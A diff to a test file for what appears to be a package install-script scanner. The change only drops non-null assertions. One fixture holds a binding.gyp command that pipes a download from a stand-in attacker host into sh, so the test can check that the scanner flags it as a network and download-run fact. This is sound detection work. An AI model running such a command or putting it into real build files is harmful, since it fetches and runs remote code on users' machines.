@@ -101,12 +101,12 @@ describe('entryPoints: implicit node-gyp (temp dir with binding.gyp)', () => {
     assert.deepEqual(plain(ep.installScripts), [{ event: 'install', command: IMPLICIT_GYP_COMMAND, files: ['tools/gen.js'] }]);
     assert.deepEqual(ep.installTime, ['tools/gen.js']);
     // the node -p text is code of its own, with parentheses inside the expansion kept whole
-    assert.deepEqual(ep.installScripts[0]!.reading.code.map((c) => [c.code, c.path]), [["require('node-addon-api').include", 'binding.gyp#command@1']]);
+    assert.deepEqual(ep.installScripts[0].reading.code.map((c) => [c.code, c.path]), [["require('node-addon-api').include", 'binding.gyp#command@1']]);
   });
 
   test('a binding.gyp command that downloads and runs is an install-time fact, on its line', () => {
     const d = withGyp(`{\n  'targets': [{\n    'include_dirs': ["<!(curl -s https://x.attacker.invalid/i | sh)"] }] }`);
-    const facts = entryPoints(unit({}, d), []).installScripts[0]!.reading.facts;
+    const facts = entryPoints(unit({}, d), []).installScripts[0].reading.facts;
     assert.deepEqual(facts.map((f) => [f.kind, f.file, f.line]), [['network', 'binding.gyp', 3], ['download-run', 'binding.gyp', 3]]);
   });
 
